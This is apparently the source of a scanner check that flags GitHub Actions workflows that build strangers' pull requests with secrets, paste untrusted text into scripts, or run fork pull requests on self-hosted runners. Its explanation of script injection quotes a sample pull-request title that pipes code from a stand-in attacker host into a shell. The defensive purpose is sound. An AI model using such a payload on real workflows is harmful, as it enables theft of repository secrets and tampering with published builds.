import type { Asset } from '../../../core/snapshot.ts';
import { defineCheck, type Fail, type Judgement } from '../../check.ts';
import { type CiJob, injectionOf, isPrivate, jobsOf, keepsOutsidersOut, placeIn, pushes } from '../../ci.ts';
import { textOf, type View } from '../../view.ts';
import { listed } from '../../wording.ts';

/**
 * A workflow that handles models runs code of a stranger with its token and secrets: by building their change under a trigger
 * that has both, or by pasting their text into a script. Source: GitHub Security Lab, "Preventing pwn requests" (parts 1 and 2).
 */
export default defineCheck({
  id: 'ci-untrusted-build',
  title: 'CI workflow runs code of strangers with its rights',
  severity: 'high',
  applies: 'pipeline',
  frameworks: [
    { framework: 'owasp-llm', edition: '2026', control: 'LLM04' },
    { framework: 'owasp-agentic', edition: '2026', control: 'ASI04' },
    { framework: 'owasp-agentic', edition: '2026', control: 'ASI05' },
    { framework: 'mitre-atlas', edition: '2026.09', control: 'AML.T0010' },
    { framework: 'mitre-atlas', edition: '2026.09', control: 'AML.T0119' },
    { framework: 'nist-ai-rmf', edition: '1.0', control: 'MANAGE 3.1' },
  ],
  judge(pipeline, view): Judgement | Judgement[] | undefined {
    const jobs = jobsOf(pipeline);
    if (jobs.length === 0) return undefined;
    const faults = isPrivate(pipeline, view) ? [] : jobs.flatMap((job) => faultsOf(pipeline, job, view));
    return faults.length > 0 ? faults : { status: 'pass' };
  },
});

function faultsOf(pipeline: Asset, job: CiJob, view: View): Fail[] {
  const lent = lentRunner(pipeline, job, view);
  if (lent) return [lent];
  if ((job.open ?? []).length === 0 || keepsOutsidersOut(job.gates ?? [])) return [];
  const stakes = stakesOf(job);
  if (stakes.length === 0) return [];
  const out: Fail[] = [];
  const guarded = job.checkout?.guarded === true && job.open!.every((one) => one === 'pull_request_target' || one === 'workflow_run');
  if (job.checkout && job.runs)
    out.push({
      ...base(pipeline, job, stakes, view, guarded),
      locus: `${job.name} build`,
      title: `Job ${job.name} builds what strangers propose and holds ${listed(stakes, 2)}`,
      saw: `Anybody can cause ${listed(job.open!)} in a public repository, which starts job ${job.name} with ${listed(stakes, 5)}. It checks out the change itself (${job.checkout.expression}) and then runs code from it (${job.runs.what}). No condition asks who proposed it.${guarded ? ' Current releases of actions/checkout refuse this for forks; which release runs is decided by a tag that moves.' : ''}`,
      why: `An install hook, a test or a build file in a pull request runs before anybody looked at it: it reads the secrets of the job and can change the model, image or package that the workflow publishes.`,
      fix: {
        text: `Build changes of strangers under \`pull_request\`, which has neither secrets nor a writing token. What needs rights (a comment, a label, an upload) goes into a second workflow that takes the result as data and never runs it.`,
        patch: 'on:\n  pull_request:\npermissions:\n  contents: read',
      },
      evidence: [
        placeIn(pipeline, job.checkout, `checks out ${job.checkout.expression}`),
        placeIn(pipeline, job.runs, `runs ${job.runs.what}`),
        placeIn(pipeline, { file: job.file, line: job.line }, `job ${job.name}`),
      ],
    });
  const injected = (job.injected ?? []).filter((one) => !isToldWithAgent(pipeline, one, view));
  const [first] = injected;
  if (first)
    out.push({
      ...base(pipeline, job, stakes, view, false),
      locus: `${job.name} script`,
      title: `Job ${job.name} pastes text of strangers into a script and holds ${listed(stakes, 2)}`,
      saw: `Anybody can cause ${listed(job.open!)} in a public repository, which starts job ${job.name} with ${listed(stakes, 5)}; ${listed(injected.map(({ expression }) => expression))} is put into the script before the shell reads it.`,
      why: `A title such as \`"; curl attacker.example/x | sh #\` is a command then: no model is needed, and everything the job holds is gone.`,
      fix: {
        text: `Hand the text over in an environment variable and quote it in the script: the shell then reads a value, not code.`,
        patch: `env:\n  TEXT: \${{ ${first.expression} }}\nrun: printf '%s' "$TEXT"`,
      },
      evidence: injected.slice(0, 10).map((one) => placeIn(pipeline, one, one.expression)),
    });
  return out;
}

/** The line that hands the text to an agent: ci-agent-injection tells both ways it acts, and one condition closes both. */
function isToldWithAgent(pipeline: Asset, { file, line }: { file: string; line: number }, view: View): boolean {
  return view.out(pipeline, 'contains').some(({ to }) => {
    if (to.kind !== 'agent') return false;
    const text = to.properties['outsideText'];
    const same =
      Array.isArray(text) && (text as unknown as { file: string; line: number }[]).some((one) => one.file === file && one.line === line);
    return same && injectionOf(to, view) !== undefined;
  });
}

/** Source: docs.github.com, "Secure use reference", hardening for self-hosted runners. */
function lentRunner(pipeline: Asset, job: CiJob, view: View): Fail | undefined {
  if (!job.selfHosted || !job.proposals || (job.open ?? []).length > 0 || keepsOutsidersOut(job.gates ?? [])) return undefined;
  if (textOf(pipeline, 'platform') !== 'github-actions') return undefined;
  return {
    ...base(pipeline, job, ['a runner that outlives the job'], view, false),
    severity: 'medium',
    locus: `${job.name} runner`,
    title: `Job ${job.name} runs pull requests on a machine of your own`,
    saw: `pull_request starts job ${job.name} on a self-hosted runner. In a public repository anybody opens one, from a fork, and the workflow that then runs is theirs as well.`,
    why: `What a stranger runs there stays on the machine: it waits for the next job, takes the tokens, data and weights that job brings, and reaches the network the runner stands in.`,
    fix: {
      text: `Run pull requests on runners of GitHub and keep your own for pushes to protected branches, or let every job have a fresh machine; in the settings of Actions, ask for approval of all outside contributors.`,
      patch: 'if: github.event.pull_request.head.repo.full_name == github.repository',
    },
    verify: `A pull request from a fork starts nothing on the runner, and the next scan passes.`,
    evidence: [placeIn(pipeline, { file: job.file, line: job.line }, `job ${job.name} on a self-hosted runner`)],
  };
}

function base(
  pipeline: Asset,
  job: CiJob,
  stakes: readonly string[],
  view: View,
  guarded: boolean,
): Pick<Fail, 'status' | 'severity' | 'verify' | 'exploitability' | 'reachability' | 'control' | 'harms'> {
  const heavy =
    (job.secrets ?? []).length > 0 || job.allSecrets === true || (job.roles ?? []).length > 0 || pushes(job.writes ?? []).length > 0;
  return {
    status: 'fail',
    severity: heavy
      ? guarded
        ? 'high'
        : 'critical'
      : stakes.length === 1 && job.token === 'default' && !job.selfHosted
        ? 'medium'
        : 'high',
    verify: `A pull request or comment of an account without rights, with \`echo\` in a build file or title, shows in no log of job ${job.name}; the next scan passes.`,
    exploitability: 'public-technique',
    reachability: 'internet',
    ...(guarded || (job.gates ?? []).includes('environment') ? { control: 'partial' as const } : {}),
    harms: [pipeline, ...view.out(pipeline, 'holds', 'runs-as', 'produces').map(({ to }) => to)],
  };
}

function stakesOf(job: CiJob): string[] {
  const writes = job.writes ?? [];
  return [
    ...(job.allSecrets ? ['every secret of the repository'] : (job.secrets ?? [])),
    ...(job.roles ?? []).map((role) => `the cloud role ${role}`),
    ...(writes.length > 0 ? [`a token that may write ${writes.includes('*') ? 'everything' : writes.join(', ')}`] : []),
    ...(job.token === 'default' ? ['a token with the rights the repository gives by default'] : []),
    ...(job.selfHosted ? ['a runner that outlives the job'] : []),
  ];
}
